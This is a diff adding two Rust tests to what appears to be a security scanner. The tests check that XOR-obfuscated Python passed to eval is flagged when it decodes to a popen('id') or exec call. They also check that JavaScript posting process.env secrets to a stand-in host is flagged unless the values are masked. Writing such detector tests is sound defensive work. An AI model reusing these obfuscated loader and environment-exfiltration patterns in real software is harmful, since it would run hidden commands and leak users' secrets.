@@ -200,3 +200,30 @@ fn a_file_of_any_name_is_none_that_the_package_brings() {
     assert!(runs("f'chats/{name}.txt'") < Some(Severity::High));
     assert!(runs("'chats/first.txt'") >= Some(Severity::High));
 }
+
+#[test]
+fn a_text_that_is_read_as_one_is_no_code() {
+    let code = |text: &str| {
+        let numbers: Vec<String> = text.bytes().map(|b| (b ^ 7).to_string()).collect();
+        format!("def f(n):\n    return eval(''.join(chr(i ^ 7) for i in n))\nx = f([{}])\n", numbers.join(","))
+    };
+    let runs = |text: &str| weight(Language::Python, &code(text), "flow-decoded-code");
+    assert!(runs("\"\"\"Localised dates, as people say them.\"\"\"") < Some(Severity::High));
+    assert!(runs("'it is so, whatever it is: ' + __import__('os').popen('id').read()") >= Some(Severity::High));
+    assert!(runs("\"\"\"a text, and \"\"\" + exec(something) + \"\"\"the rest of it\"\"\"") >= Some(Severity::High));
+}
+
+#[test]
+fn what_is_masked_in_a_text_is_not_in_it() {
+    let javascript = |line: &str| {
+        let code = format!(
+            "let text = process.argv[2]; for (const v of Object.values(process.env)) {{ {line} }}\n\
+             fetch('https://h.invalid/m', {{ method: 'POST', body: text }});\n"
+        );
+        weight(Language::JavaScript, &code, "flow-environment-sent")
+    };
+    assert_eq!(javascript("text = text.split(v).join('***');"), None);
+    assert_eq!(javascript("text = text.replaceAll(v, '***');"), None);
+    assert!(javascript("text = text.replaceAll('***', v);") >= Some(Severity::High));
+    assert!(javascript("text = text.split(' ').join(v);") >= Some(Severity::High));
+}
